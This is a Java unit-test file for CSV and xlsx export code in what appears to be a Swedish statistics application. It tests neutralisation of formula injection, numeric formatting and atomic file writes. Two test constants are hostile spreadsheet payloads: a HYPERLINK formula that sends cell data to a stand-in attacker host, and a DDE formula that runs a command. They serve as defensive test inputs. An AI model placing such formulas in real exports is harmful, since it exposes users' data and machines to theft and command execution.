package se.halsolage.export;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import se.halsolage.domain.UserError;

import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Formula injection is neutralised in CSV and xlsx exports, numbers stay numbers, and writes are atomic. */
class ExportTest {
    static final String HYPERLINK = "=HYPERLINK(\"http://angripare.example/?d=\"&A1;\"Klicka här\")";
    static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

    @TempDir
    Path dir;

    static TableExport.Table table() {
        return new TableExport.Table("Nyckeltal; urval", List.of("Område", "Kommentar", "Värde"), List.of(
                Arrays.asList("Exempelby", HYPERLINK, -3.5),
                Arrays.asList(DDE, "+46 70 123 45 67", 12.25),
                Arrays.asList("-1+1", "\tTABB", null),
                Arrays.asList("Växjö", "-", 0)));
    }

    @Test
    void safeCellsFollowsOwaspButKeepsNumbers() {
        assertThat(SafeCells.text(HYPERLINK)).isEqualTo("'" + HYPERLINK);
        assertThat(SafeCells.text("+1+cmd")).isEqualTo("'+1+cmd");
        assertThat(SafeCells.text("-2+3+cmd|' /C calc'!A0")).startsWith("'-");
        assertThat(SafeCells.text(DDE)).isEqualTo("'" + DDE);
        assertThat(SafeCells.text("\t=1")).isEqualTo("'\t=1");
        assertThat(SafeCells.text("\r=1")).isEqualTo("'\r=1");
        assertThat(SafeCells.text("\uFF1D1+1")).startsWith("'");
        // genuine numbers, markers and ordinary words are left alone
        for (String keep : List.of("-3,5", "-3.5", "+46 70 123 45 67", "-1 234,5", "-12 %", "1e-3", "-", "Växjö", "", "a=b", "−3,5")) {
            assertThat(SafeCells.text(keep)).as(keep).isEqualTo(keep);
        }
        assertThat(SafeCells.text(null)).isNull();
    }

    @Test
    void csvIsExcelsSwedishDialectWithInjectionNeutralised() throws Exception {
        Path f = TableExport.write(table(), dir.resolve("tabell.csv"));
        byte[] bytes = Files.readAllBytes(f);
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).contains("\r\n").startsWith("Område;Kommentar;Värde\r\n");
        List<CSVRecord> recs = CSVFormat.DEFAULT.builder().setDelimiter(';').build().parse(new StringReader(text)).getRecords();
        assertThat(recs).hasSize(5);
        assertThat(recs.get(1).values()).containsExactly("Exempelby", "'" + HYPERLINK, "-3,5");
        assertThat(recs.get(2).values()).containsExactly("'" + DDE, "+46 70 123 45 67", "12,25");
        assertThat(recs.get(3).values()).containsExactly("'-1+1", "'\tTABB", "");
        assertThat(recs.get(4).values()).containsExactly("Växjö", "-", "0");
        for (CSVRecord r : recs) {
            for (String v : r.values()) assertThat(SafeCells.isDangerous(v)).as(v).isFalse();
        }
    }

    @Test
    void xlsxHasTextCellsNeutralisedAndNumbersAsNumbers() throws Exception {
        Path f = TableExport.write(table(), dir.resolve("tabell.xlsx"));
        try (InputStream in = Files.newInputStream(f); XSSFWorkbook wb = new XSSFWorkbook(in)) {
            var sheet = wb.getSheetAt(0);
            assertThat(sheet.getSheetName()).isEqualTo("Nyckeltal; urval");
            assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Område");
            Cell link = sheet.getRow(1).getCell(1);
            assertThat(link.getCellType()).isEqualTo(CellType.STRING);
            // a text-typed cell (format "@", Excel's hidden quote prefix) instead of a visible "'"
            assertThat(link.getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(link.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(link.getCellStyle().getDataFormatString()).isEqualTo("@");
            Cell minus = sheet.getRow(1).getCell(2);
            assertThat(minus.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(minus.getNumericCellValue()).isEqualTo(-3.5);
            assertThat(sheet.getRow(2).getCell(0).getStringCellValue()).isEqualTo(DDE);
            assertThat(sheet.getRow(2).getCell(0).getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(sheet.getRow(0).getCell(0).getCellStyle().getQuotePrefixed()).as("a plain text is left plain").isFalse();
            assertThat(sheet.getRow(3).getCell(2)).isNull();
            assertThat(sheet.getRow(4).getCell(1).getStringCellValue()).isEqualTo("-");
            for (Row r : sheet) {
                for (Cell c : r) {
                    assertThat(c.getCellType()).isIn(CellType.STRING, CellType.NUMERIC);
                    if (c.getCellType() == CellType.STRING && SafeCells.isDangerous(c.getStringCellValue())) {
                        assertThat(c.getCellStyle().getQuotePrefixed()).as(c.getStringCellValue()).isTrue();
                    }
                }
            }
        }
    }

    /** A table that fails after many good rows: the export stops before the file is replaced. */
    static TableExport.Table failingTable() {
        List<List<?>> rows = new ArrayList<>();
        for (int i = 0; i < 20_000; i++) rows.add(List.of("Rad " + i, i * 0.5));
        rows.add(List.of("Trasig", new Object()));
        return new TableExport.Table("Fel", List.of("Namn", "Värde"), rows);
    }

    @Test
    void aFailingExportLeavesTheOldFileIntactAndNoPartialFile() throws Exception {
        for (String name : List.of("gammal.csv", "gammal.xlsx")) {
            Path target = dir.resolve(name);
            Files.writeString(target, "gammalt innehåll");
            assertThatThrownBy(() -> TableExport.write(failingTable(), target)).isInstanceOf(IllegalArgumentException.class);
            assertThat(Files.readString(target)).isEqualTo("gammalt innehåll");
        }
        Path fresh = dir.resolve("ny.xlsx");
        assertThatThrownBy(() -> TableExport.write(failingTable(), fresh)).isInstanceOf(IllegalArgumentException.class);
        assertThat(fresh).doesNotExist();
        assertThat(files()).containsExactlyInAnyOrder("gammal.csv", "gammal.xlsx");
    }

    @Test
    void anIoErrorHalfwayLeavesTheOldFileIntact() throws Exception {
        Path target = dir.resolve("rapport.csv");
        Files.writeString(target, "version 1");
        assertThatThrownBy(() -> AtomicFiles.write(target, out -> {
            out.write(new byte[3_000_000]);
            throw new IOException("disken är full");
        })).isInstanceOf(UserError.class).hasMessageContaining("rapport.csv").hasMessageContaining("disken är full")
                .hasMessageContaining("orörd");
        assertThat(Files.readString(target)).isEqualTo("version 1");
        assertThat(files()).containsExactly("rapport.csv");

        AtomicFiles.write(target, out -> out.write("version 2".getBytes(StandardCharsets.UTF_8)));
        assertThat(Files.readString(target)).isEqualTo("version 2");
        assertThat(files()).containsExactly("rapport.csv");
    }

    @Test
    void aNewFileGetsNormalPermissionsAndAReplacedFileKeepsItsOwn() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(dir.getFileSystem().supportedFileAttributeViews().contains("posix"));
        Path plain = Files.createFile(dir.resolve("vanlig.txt"));
        Path made = AtomicFiles.write(dir.resolve("ny.csv"), out -> out.write('x'));
        assertThat(Files.getPosixFilePermissions(made)).isEqualTo(Files.getPosixFilePermissions(plain));
        Path shared = Files.writeString(dir.resolve("delad.csv"), "v1");
        var perms = java.nio.file.attribute.PosixFilePermissions.fromString("rw-rw-r--");
        Files.setPosixFilePermissions(shared, perms);
        AtomicFiles.write(shared, out -> out.write('y'));
        assertThat(Files.getPosixFilePermissions(shared)).isEqualTo(perms);
        assertThat(Files.readString(shared)).isEqualTo("y");
    }

    @Test
    void aMissingFolderOrAFolderAsTargetIsAClearError() {
        assertThatThrownBy(() -> AtomicFiles.write(dir.resolve("saknas").resolve("a.csv"), out -> { }))
                .isInstanceOf(UserError.class).hasMessageContaining("finns inte");
        assertThatThrownBy(() -> AtomicFiles.write(dir, out -> { })).isInstanceOf(UserError.class).hasMessageContaining("mapp");
    }

    private List<String> files() throws IOException {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }
}
